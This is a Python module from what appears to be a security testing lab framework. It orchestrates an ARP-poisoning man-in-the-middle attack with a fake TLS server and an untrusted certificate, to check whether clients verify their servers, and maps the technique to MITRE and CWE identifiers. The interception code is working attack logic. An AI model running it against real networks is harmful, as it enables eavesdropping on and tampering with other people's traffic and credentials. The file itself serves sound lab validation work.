"""Being the server for a client: from a worker's root, which may redirect what passes it.

ARP brings the packets; a rule of the firewall turns those for one server to a process of the
attacker's, with a certificate of the attacker's. A connection that went by this machine before
is known to its firewall and not turned: it is reset, and the client makes a new one. What is
plaintext is passed on to the true server. The rules and the process are gone afterwards.
"""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Callable, Sequence
from concurrent.futures import ThreadPoolExecutor, wait
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from labkit import agents
from labkit.errors import ProbeError, ProbeTimeout
from labkit.lab.pki import Authority
from labkit.model import Channel, Foothold, Model, read_model
from labkit.techniques._lib.machines.reach import inside, run
from labkit.techniques._lib.technique import ROOT_ON_WORKER, Prediction, Technique
from labkit.techniques._lib.verdict import Verdict
from labkit.techniques._lib.wire.capture import flush_neighbours, place_of, wait_until_poisoned

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["ANSWER", "InterceptionTarget", "intercept", "technique"]

#: What the false server says to whoever asks it over TLS.
ANSWER = b"labkit: this is not what you asked for\n"
#: Seconds that the false server stays, and that a call is given to get to it. One that goes over
#: a kept connection that is reset is lost: the client is made to call again.
STAY, CALL = 20, 4


@dataclass(frozen=True, slots=True)
class InterceptionTarget:
    """One client that is to take the attacker for its server.

    Parameters
    ----------
    about : str
        The ids of the channels, as a shell's pattern.
    call : callable
        Makes the client call its server, undoes that, and returns what the client then says.
    wanted : str
        What stands in plaintext that shows that it was the client's.
    read : str
        What the attacker then has read.
    well : callable
        Shows that the true server is reached when nobody is in the way, and says how.
    """

    about: str
    call: Callable[[Lab], bytes | None] = field(repr=False)
    wanted: str
    read: str
    positive_control: Callable[[Lab], str] = field(repr=False)


def predict(model: Model, target: InterceptionTarget) -> Prediction:
    """Say what the model says: whether the client verifies its server."""
    found = model.open_channels(target.about)
    if not found:
        return Prediction(
            False, tuple(str(c.encryption) for c in model.closed_channels(target.about))
        )
    claims = [channel.server_authentication for channel in found]
    unverified = [claim for claim in claims if claim.value in ("none", "unverified")]
    return Prediction(bool(unverified), (str((unverified or claims)[0]),))


def intercept(lab: Lab, foothold: Foothold, name: str, target: InterceptionTarget) -> Verdict:
    """Stand between a client and its server, with a stranger's certificate.

    Raises
    ------
    ProbeTimeout
        The client did not call.
    ProbeError
        What it did says nothing.
    """
    found = read_model(lab.environment).open_channels(target.about)
    seen, believed_it = _intercept_calls(lab, foothold, found, target)
    channel = found[0]
    asked = [f"{channel.client} was led to the attacker's server"]
    for entry in seen:
        if "plaintext" in entry:
            reason = "plaintext: nothing says who the server is"
            return _succeeded(lab, name, foothold, reason, [*asked, f"read: {target.read}"])
        if "tls" in entry:
            line = base64.b64decode(entry["tls"]).split(b"\r\n")[0].decode(errors="replace")
            if not re.match(r"[A-Z]+ /\S* HTTP/", line):
                raise ProbeError(f"{name}: the client sent no request", evidence=[line[:80]])
            more = [f"read over TLS: {target.read}"]
            if believed_it:
                more.append("the attacker's answer was believed and passed on")
            reason = "TLS, but the client does not look whose certificate it is"
            return _succeeded(lab, name, foothold, reason, [*asked, *more])
    alert = next((entry["alert"] for entry in seen if "alert" in entry), "")
    if not alert:
        raise ProbeTimeout(f"{name}: {channel.client} did not call within {STAY} s")
    positive_control = target.positive_control(lab)
    reason = f"TLS alert: {alert}"
    return Verdict(name, lab.mode, foothold, False, reason, tuple(asked), positive_control)


def _succeeded(
    lab: Lab, name: str, foothold: Foothold, reason: str, evidence: Sequence[str]
) -> Verdict:
    return Verdict(name, lab.mode, foothold, True, reason, tuple(evidence))


def _intercept_calls(
    lab: Lab, foothold: Foothold, found: Sequence[Channel], target: InterceptionTarget
) -> tuple[list[dict[str, str]], bool]:
    """Put the false server in the way, make the client call, and say what came of both."""
    here = place_of(lab, foothold)
    client = found[0].client.rpartition("@")[2]
    servers = sorted({channel.server.rpartition("@")[2] for channel in found})
    leaf = Authority.create("labkit-stranger-ca").issue(
        servers[0], hosts=[*servers, "localhost"], usages=["server"]
    )
    address, addresses = inside(lab, client), [inside(lab, server) for server in servers]
    job = {
        "certificate_pem": leaf.certificate.decode(),
        "key_pem": leaf.key.decode(),
        "client": address,
        "servers": addresses,
        "port": found[0].port,
        "wanted": target.wanted,
        "answer": ANSWER.decode(),
        "lead": agents.argv("arp_poison", *(word for it in addresses for word in (address, it))),
        "seconds": STAY,
    }
    pairs = [(client, server) for server in servers]
    argv = agents.argv("fake_server")
    with ThreadPoolExecutor(max_workers=1) as pool:
        stdin = json.dumps(job).encode()
        future = pool.submit(run, lab, here, argv, stdin=stdin, timeout=STAY + 20, check=True)
        try:
            wait_until_poisoned(lab, here, pairs)
            said = [target.call(lab)]
            while not wait([future], timeout=CALL).done:
                said.append(target.call(lab))
            output = future.result()
        finally:
            future.exception()
            flush_neighbours(lab, pairs)
    seen: list[dict[str, str]] = json.loads(output.stdout)
    return seen, any(answer and ANSWER in answer for answer in said)


def technique(
    name: str,
    title: str,
    target: InterceptionTarget,
    *,
    stride: tuple[str, ...],
    sources: tuple[str, ...],
) -> Technique:
    """Make the technique that stands in a client's way."""
    return Technique(
        name=name,
        title=title,
        footholds=(ROOT_ON_WORKER,),
        grants=(),
        about=target.about,
        properties=("server_authentication",),
        attack=("T1557.002",),
        stride=stride,
        cwe=("CWE-295", "CWE-300"),
        sources=("https://attack.mitre.org/techniques/T1557/002/", *sources),
        predict=lambda model, foothold: predict(model, target),
        execute=lambda lab, foothold: intercept(lab, foothold, name, target),
    )
